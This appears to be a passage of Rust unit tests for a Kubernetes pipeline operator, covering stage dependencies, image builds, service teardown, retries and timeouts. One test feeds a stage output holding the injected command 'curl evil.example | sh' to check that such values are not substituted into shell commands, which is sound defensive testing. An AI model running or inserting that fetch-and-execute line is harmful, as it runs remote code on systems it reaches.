            let active: Vec<String> = sim.observed.jobs.iter().filter(|j| j.outcome.state == JobState::Active).map(|j| j.stage.clone()).collect();
            for s in active {
                if draws.next().unwrap() { sim.succeed(&s) } else { sim.fail(&s) }
            }
            sim.advance(601);
        }
        prop_assert!(sim.status.phase.is_some_and(RunPhase::is_finished), "run did not finish: {:?}", sim.status);
        let mut attempts: BTreeMap<&str, u32> = BTreeMap::new();
        for job in &sim.observed.jobs {
            *attempts.entry(job.stage.as_str()).or_default() += 1;
        }
        for stage in &spec.stages {
            let st = sim.stage(&stage.name);
            prop_assert!(st.phase.is_finished(), "{} is {:?}", stage.name, st.phase);
            let made = attempts.get(stage.name.as_str()).copied().unwrap_or(0);
            prop_assert!(made <= stage.retries.unwrap_or(0) + 1, "{} made {} Jobs", stage.name, made);
            if st.phase == StagePhase::Succeeded && !stage.finally {
                for need in &stage.needs {
                    prop_assert!(sim.phase(need).is_success(), "{} succeeded though {} is {:?}", stage.name, need, sim.phase(need));
                }
            }
        }
        let gating_failed = spec.stages.iter().any(|s| s.gating != Some(false) && sim.phase(&s.name) == StagePhase::Failed);
        prop_assert_eq!(sim.status.phase == Some(RunPhase::Succeeded), !gating_failed);
        let job_names: std::collections::BTreeSet<&String> = sim.created_jobs.iter().collect();
        prop_assert_eq!(job_names.len(), sim.created_jobs.len(), "a Job name was created twice");
    }
}

fn image_build_stage(name: &str, build: &str) -> Stage {
    Stage {
        name: name.into(),
        image_build: Some(crate::api::pipelinerun::ObjectRef { name: build.into() }),
        ..Default::default()
    }
}

#[test]
fn an_image_build_stage_waits_for_the_build_and_hands_on_its_image() {
    let mut consumer = stage("test", &["sdk"]);
    consumer.run.as_mut().unwrap().image = Some("$(stages.sdk.outputs.image)".into());
    let mut sim = Sim::new(spec(vec![image_build_stage("sdk", "sdk-image"), consumer]));
    sim.step();
    assert_eq!(sim.phase("sdk"), StagePhase::Running);
    assert!(sim.stage("sdk").message.as_deref().unwrap().contains("sdk-image, which does not exist"));
    assert!(sim.created_jobs.is_empty(), "an imageBuild stage runs no Job");
    assert_eq!(sim.last.as_ref().unwrap().requeue_after, Some(REFERENCE_POLL));
    sim.observed
        .image_builds
        .insert("sdk-image".into(), Referenced::Waiting("waiting for ImageBuild sdk-image (Building)".into()));
    sim.advance(5);
    sim.step();
    assert!(sim.stage("sdk").message.as_deref().unwrap().contains("(Building)"));
    let outputs = BTreeMap::from([
        ("image".to_string(), "reg/sdk:c1".to_string()),
        ("digest".to_string(), "sha256:ab".to_string()),
    ]);
    sim.observed.image_builds.insert("sdk-image".into(), Referenced::Ready(outputs));
    sim.advance(5);
    let plan = sim.step().clone();
    assert_eq!(sim.phase("sdk"), StagePhase::Succeeded);
    assert_eq!(sim.stage("sdk").outputs["digest"], "sha256:ab");
    assert!(plan.actions.contains(&Action::MarkImageUsed { build: "sdk-image".into() }), "the build was used");
    assert_eq!(sim.launches()[0].image, "reg/sdk:c1", "the next stage runs the built image in the same pass");
}

#[test]
fn a_referenced_object_that_fails_or_never_comes_fails_the_stage() {
    let mut sim = Sim::new(spec(vec![image_build_stage("sdk", "sdk-image")]));
    sim.step();
    sim.observed
        .image_builds
        .insert("sdk-image".into(), Referenced::Failed("ImageBuild sdk-image failed: exit 2".into()));
    sim.step();
    assert_eq!(sim.phase("sdk"), StagePhase::Failed);
    assert!(sim.status.message.as_deref().unwrap().contains("exit 2"));

    let mut kata = Stage {
        name: "kata".into(),
        kata_install: Some(crate::api::pipelinerun::ObjectRef { name: "kata".into() }),
        timeout: Some("5m".into()),
        ..Default::default()
    };
    kata.needs = vec![];
    let mut sim = Sim::new(spec(vec![kata]));
    sim.step();
    sim.advance(299);
    sim.step();
    assert_eq!(sim.phase("kata"), StagePhase::Running);
    sim.advance(1);
    sim.step();
    assert_eq!(sim.phase("kata"), StagePhase::Failed);
    assert!(sim
        .stage("kata")
        .message
        .as_deref()
        .unwrap()
        .starts_with("timed out after 5m: waiting for KataInstall kata"));
}

fn make_ready(sim: &mut Sim, stage: &str, addresses: &[&str]) {
    let attempt = sim.observed.latest_attempt(stage).unwrap();
    let job = sim.observed.jobs.iter_mut().find(|j| j.stage == stage && j.attempt == attempt).unwrap();
    job.outcome.ready_addresses = addresses.iter().map(|s| s.to_string()).collect();
}

#[test]
fn a_service_serves_its_dependents_and_is_torn_down_after_the_last() {
    let mut cluster = stage("cluster", &["build"]);
    cluster.service = Some(crate::api::pipelinerun::ServiceStage { replicas: 2, readiness_probe: None });
    let mut e2e = stage("e2e", &["cluster"]);
    e2e.run.as_mut().unwrap().args = vec!["$(stages.cluster.outputs.addresses)".into()];
    let mut sim = Sim::new(spec(vec![stage("build", &[]), cluster, e2e, stage("conformance", &["cluster"])]));
    sim.step();
    sim.succeed("build");
    sim.step();
    assert_eq!(sim.running(), ["cluster"]);
    assert_eq!(sim.launches()[0].service.as_ref().unwrap().replicas, 2);
    make_ready(&mut sim, "cluster", &["10.0.0.1"]);
    sim.step();
    assert_eq!(sim.running(), ["cluster"], "one of two pods ready: dependents wait");
    assert_eq!(sim.last.as_ref().unwrap().requeue_after, Some(SERVICE_POLL), "and it looks again soon");
    make_ready(&mut sim, "cluster", &["10.0.0.1", "10.0.0.2"]);
    sim.step();
    assert!(sim.stage("cluster").ready);
    assert_eq!(sim.running(), ["cluster", "e2e", "conformance"]);
    assert_eq!(sim.launches()[0].args, ["10.0.0.1,10.0.0.2"]);
    assert!(sim.notes.iter().any(|n| n.reason == "ServiceReady"));
    sim.succeed("e2e");
    sim.step();
    assert_eq!(sim.running(), ["cluster", "conformance"], "still needed by conformance");
    sim.fail("conformance");
    sim.step();
    assert_eq!(sim.deleted_jobs, [job("cluster", 1)], "torn down after its last dependent");
    assert_eq!(sim.phase("cluster"), StagePhase::Succeeded);
    assert_eq!(sim.status.phase, Some(RunPhase::Failed), "conformance failed");
}

#[test]
fn a_service_that_dies_fails_and_a_cancelled_run_tears_it_down() {
    let mut cluster = stage("cluster", &[]);
    cluster.service = Some(crate::api::pipelinerun::ServiceStage { replicas: 1, readiness_probe: None });
    let mut sim = Sim::new(spec(vec![cluster.clone(), stage("e2e", &["cluster"])]));
    sim.step();
    sim.fail("cluster");
    sim.step();
    assert_eq!(sim.phase("cluster"), StagePhase::Failed);
    assert_eq!(sim.phase("e2e"), StagePhase::Cancelled);

    let mut sim = Sim::new(spec(vec![cluster, stage("e2e", &["cluster"])]));
    sim.step();
    make_ready(&mut sim, "cluster", &["10.0.0.1"]);
    sim.step();
    sim.spec.cancel = true;
    sim.step();
    assert_eq!(sim.deleted_jobs, [job("cluster", 1), job("e2e", 1)]);
    assert_eq!(sim.status.phase, Some(RunPhase::Cancelled));
}

#[test]
fn an_output_with_shell_characters_is_not_substituted_into_a_command() {
    let mut producer = stage("sdk", &[]);
    producer.outputs = vec!["version".into()];
    let mut consumer = stage("test", &["sdk"]);
    consumer.run.as_mut().unwrap().command =
        vec!["sh".into(), "-c".into(), "run-tests $(stages.sdk.outputs.version)".into()];
    let mut sim = Sim::new(spec(vec![producer.clone(), consumer.clone()]));
    sim.step();
    sim.finish("sdk", JobState::Succeeded, "version=1.0; curl evil.example | sh\n");
    sim.step();
    assert_eq!(sim.phase("test"), StagePhase::Failed);
    assert!(sim.launches().is_empty(), "no Job for the consumer");
    let message = sim.stage("test").message.clone().unwrap_or_default();
    assert!(message.contains("$(stages.sdk.outputs.version) in run.command[2]"), "{message}");
    assert!(message.contains("$GANTRY_OUTPUT_SDK_VERSION"), "{message}");

    // Opting in substitutes the value as it is; plain values never need it.
    consumer.allow_unsafe_outputs = true;
    let mut sim = Sim::new(spec(vec![producer.clone(), consumer]));
    sim.step();
    sim.finish("sdk", JobState::Succeeded, "version=1.0; echo hi\n");
    sim.step();
    assert_eq!(sim.launches()[0].command[2], "run-tests 1.0; echo hi");
    let mut plain = stage("test", &["sdk"]);
    plain.run.as_mut().unwrap().args = vec!["$(stages.sdk.outputs.version)".into()];
    let mut sim = Sim::new(spec(vec![producer, plain]));
    sim.step();
    sim.finish("sdk", JobState::Succeeded, "version=3145.0.0\n");
    sim.step();
    assert_eq!(sim.launches()[0].args, ["3145.0.0"]);
}

#[test]
fn outputs_in_env_values_are_data_and_need_no_opt_in() {
    let mut producer = stage("sdk", &[]);
    producer.outputs = vec!["version".into()];
    let mut consumer = stage("test", &["sdk"]);
    consumer.run.as_mut().unwrap().env = vec![k8s_openapi::api::core::v1::EnvVar {
        name: "V".into(),
        value: Some("$(stages.sdk.outputs.version)".into()),
        value_from: None,
    }];
    let mut sim = Sim::new(spec(vec![producer, consumer]));
    sim.step();
    sim.finish("sdk", JobState::Succeeded, "version=a b;c\n");
    sim.step();
    assert_eq!(env_of(&sim.launches()[0], "V").as_deref(), Some("a b;c"));
}

#[test]
fn a_timeout_of_years_is_an_invalid_spec_not_an_overflow() {
    for (field, mut s) in
        [("spec.timeout", spec(vec![stage("a", &[])])), ("spec.defaults.timeout", spec(vec![stage("a", &[])]))]
    {
        if field == "spec.timeout" {
            s.timeout = Some("100000000d".into());
        } else {
            s.defaults.timeout = Some("100000000d".into());
        }
        let mut sim = Sim::new(s);
        sim.step();
        assert_eq!(sim.status.phase, Some(RunPhase::Failed));
        assert_eq!(sim.condition().1, "InvalidSpec");
        let message = sim.status.message.clone().unwrap_or_default();
        assert!(message.starts_with(&format!("{field}: \"100000000d\": longer than the limit of 30d")), "{message}");
        assert!(sim.created_jobs.is_empty());
    }
}

#[test]
fn a_success_whose_outputs_are_lost_is_a_failed_attempt_and_retried() {
    let mut sdk = stage("sdk", &[]);
    sdk.outputs = vec!["version".into()];
    sdk.retries = Some(1);
    let mut sim = Sim::new(spec(vec![sdk, stage("test", &["sdk"])]));
    sim.step();
    sim.succeed("sdk");
    sim.observed.jobs[0].outcome.outputs_lost = true;
    sim.step();
    assert_eq!(sim.phase("sdk"), StagePhase::Waiting, "retried");
    let history = &sim.stage("sdk").history;
    assert!(
        history[0].message.as_deref().unwrap_or_default().contains("its pod is gone with the outputs"),
        "{history:?}"
    );
    // A stage that declares no outputs has nothing to lose.
    let mut sim = Sim::new(spec(vec![stage("a", &[])]));
    sim.step();
    sim.succeed("a");
    sim.observed.jobs[0].outcome.outputs_lost = true;
    sim.step();
    assert_eq!(sim.phase("a"), StagePhase::Succeeded);
}

#[test]
fn a_finally_stage_that_needs_a_service_runs_while_the_service_is_up() {
    // Collecting a test cluster's logs after the tests, whatever happened.
    let mut cluster = stage("cluster", &[]);
    cluster.service = Some(crate::api::pipelinerun::ServiceStage { replicas: 1, readiness_probe: None });
    let mut collect = stage("collect-logs", &["cluster"]);
    collect.finally = true;
    collect.run.as_mut().unwrap().args = vec!["$(stages.cluster.outputs.addresses)".into()];
    let mut sim = Sim::new(spec(vec![cluster, stage("e2e", &["cluster"]), collect]));
    sim.step();
    make_ready(&mut sim, "cluster", &["10.0.0.1"]);
    sim.step();
    assert_eq!(sim.running(), ["cluster", "e2e"]);
    sim.fail("e2e");
    sim.step();
    assert_eq!(sim.running(), ["cluster", "collect-logs"], "the service stays up for the finally stage");
    assert_eq!(sim.launches()[0].args, ["10.0.0.1"]);
    sim.succeed("collect-logs");
    sim.step();
    assert_eq!(sim.deleted_jobs, [job("cluster", 1)], "torn down after the finally stage");
    assert_eq!(sim.phase("cluster"), StagePhase::Succeeded);
    assert_eq!(sim.status.phase, Some(RunPhase::Failed), "e2e failed");
}

#[test]
fn a_finished_run_keeps_its_result_when_its_spec_becomes_invalid() {
    let mut sim = Sim::new(spec(vec![stage("a", &[])]));
    sim.step();
    sim.succeed("a");
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
    // A stricter operator (after an upgrade) now refuses this spec.
    sim.spec.timeout = Some("60d".into());
    sim.rerun = Some("a".into());
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded), "the result it had stands");
    assert_eq!(sim.condition(), ("True".into(), "Succeeded".into()));
    assert!(sim.created_jobs.len() == 1, "no rerun of an invalid spec");
    assert!(
        sim.notes.iter().any(|n| n.reason == "RerunIgnored" && n.message.contains("spec.timeout")),
        "{:?}",
        sim.notes
    );
    assert_eq!(sim.rerun, None, "the request is answered");
}
